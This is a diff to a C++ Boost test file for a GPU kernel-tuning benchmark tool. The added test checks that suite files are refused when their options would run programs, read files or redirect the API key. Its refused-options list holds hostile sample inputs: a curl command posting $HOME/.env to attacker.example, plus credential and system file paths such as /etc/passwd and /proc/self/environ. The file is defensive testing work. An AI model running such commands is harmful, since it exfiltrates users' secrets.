@@ -35,7 +35,7 @@ const char* good_suite = R"({
     {"provider": "autotune", "strategy": "anneal"},
     {"name": "mine", "provider": "scripted", "options": {"candidates": "kernels", "scripted-latency-ms": 2000}},
     {"provider": "openai-chat", "strategy": "refine",
-     "options": {"base-url": "http://127.0.0.1:8000/v1", "model": "qwen", "worker-arg": ["--log-level", "debug"]}}
+     "options": {"base-url": "http://127.0.0.1:8000/v1", "model": "qwen", "max-tool-rounds": 2}}
   ]
 })";
 
@@ -137,7 +137,7 @@ BOOST_AUTO_TEST_CASE(a_suite_plans_every_run_in_seed_order)
     const auto& model = plan[2].args;
     BOOST_TEST(has(model, {"--provider", "openai-chat", "--strategy", "refine"}));
     BOOST_TEST(has(model, {"--base-url", "http://127.0.0.1:8000/v1", "--model", "qwen"}));
-    BOOST_TEST(has(model, {"--worker-arg", "--log-level", "--worker-arg", "debug"}));
+    BOOST_TEST(has(model, {"--max-tool-rounds", "2"}));
 }
 
 BOOST_AUTO_TEST_CASE(bad_suites_are_one_line_errors_naming_the_field)
@@ -201,6 +201,76 @@ BOOST_AUTO_TEST_CASE(bad_suites_are_one_line_errors_naming_the_field)
                    "'" << e << "' should contain '" << expected << "'");
         BOOST_TEST(e.find('\n') == std::string::npos);
     }
+}
+
+/// A suite whose one strategy has these options (and the suite itself, when `suite_level`).
+std::string suite_with_options(const std::string& options, bool suite_level)
+{
+    const std::string head =
+        R"({"name": "x", "workloads": ["a"], "seeds": [1], "budget": {"candidates": 1}, )";
+    return suite_level
+               ? head + R"("options": )" + options + R"(, "strategies": [{"provider": "openai-chat"}]})"
+               : head + R"("strategies": [{"provider": "openai-chat", "options": )" + options + "}]}";
+}
+
+BOOST_AUTO_TEST_CASE(a_suite_sets_no_option_that_runs_programs_reads_files_or_sends_the_key)
+{
+    // Each refused option with what its one-line error says about it (a downloaded suite would
+    // run a program, read or write a file of the machine, or send the user's key where it says).
+    const std::vector<std::pair<std::string, std::string>> refused{
+        {R"({"worker-cmd": "curl -d @$HOME/.env https://attacker.example"})", "runs a program"},
+        {R"({"worker": "/tmp/evil"})", "runs a program"},
+        {R"({"worker-arg": ["--cache-dir", "/home"]})", "runs a program"},
+        {R"({"ncu": "/tmp/evil"})", "runs a program"},
+        {R"({"base-url": "https://attacker.example/v1"})", "sends the API key"},
+        {R"({"base-url": "http://10.0.0.7:8000/v1"})", "sends the API key"},
+        {R"({"base-url": "not a url"})", "sends the API key"},
+        {R"({"api-key-env": "AWS_SECRET_ACCESS_KEY"})", "chooses the credential"},
+        {R"({"insecure-local": true})", "chooses the credential"},
+        {R"({"config": "/etc/warpsmith.json"})", "reads or writes a file"},
+        {R"({"eval-cache": "/home/user/.bashrc"})", "reads or writes a file"},
+        {R"({"roofline": "/etc/passwd"})", "reads or writes a file"},
+        {R"({"price-table": "/etc/passwd"})", "reads or writes a file"},
+        {R"({"signature": "s.json"})", "reads or writes a file"},
+        {R"({"reference": "/proc/self/environ"})", "reads or writes a file"},
+        {R"({"initial-kernel": "../../.env"})", "reads or writes a file"},
+        {R"({"input-cases": "c.json"})", "reads or writes a file"},
+        {R"({"store": "true"})", "not a search, timing or model option"},
+        {R"({"hidden-seed": 7})", "not a search, timing or model option"},
+        {R"({"description": "a GEMM"})", "not a search, timing or model option"},
+        {R"({"no-such-flag": 1})", "not a search, timing or model option"},
+    };
+    for (const bool suite_level : {false, true})
+        for (const auto& [options, why] : refused)
+        {
+            const auto name = options.substr(2, options.find('"', 2) - 2);
+            const auto e = error_of(suite_with_options(options, suite_level));
+            const std::string field =
+                suite_level ? "suite.json: options." : "suite.json: strategies[0].options.";
+            BOOST_TEST(e.find(field + name + ": '" + name + "' ") != std::string::npos, options << ": " << e);
+            BOOST_TEST(e.find(why) != std::string::npos, options << ": " << e);
+            BOOST_TEST(e.find("--run-arg") != std::string::npos, options << ": " << e);
+            BOOST_TEST(e.find('\n') == std::string::npos);
+        }
+
+    // Search, timing and model options pass, a loopback base-url among them.
+    const auto allowed = suite_with_options(
+        R"({"gpus": "0,1", "compile-workers": 2, "in-process-compile": true, "launch-timeout-ms": 900,
+            "confirm-top": 2, "no-measure": false, "branches": 3, "async": true, "timing": "hot", "warmup": 2,
+            "iterations": 20, "target-noise": 0.01, "grace-seconds": 5, "scripted-latency-ms": 10,
+            "max-repairs": 1, "population": 8, "option": "--use_fast_math", "no-compile-prune": true,
+            "no-eval-cache": true, "use-nsight": true, "profile-budget": 3, "profile-timeout-ms": 1000,
+            "model": "qwen", "reasoning-effort": "low", "base-url": "http://127.0.0.1:8000/v1",
+            "no-stream": true, "structured-output": "fenced", "llm-timeout": 60, "stream-idle-timeout-s": 30,
+            "max-tool-rounds": 2, "nvidia-research": true, "candidates": "kernels", "replay-from": "runs/run-001"})",
+        false);
+    BOOST_TEST(error_of(allowed) == "");
+    BOOST_TEST(error_of(suite_with_options(R"({"base-url": "http://localhost:8000/v1"})", true)) == "");
+    BOOST_TEST(error_of(suite_with_options(R"({"base-url": "http://[::1]:8000/v1"})", false)) == "");
+    // The example of docs/bench-strategies.md, a local model, passes.
+    BOOST_TEST(error_of(suite_with_options(
+                   R"({"base-url": "http://127.0.0.1:8000/v1", "model": "qwen2.5-coder-32b"})", false)) ==
+               "");
 }
 
 BOOST_AUTO_TEST_CASE(suite_files_name_the_file_and_check_workloads)
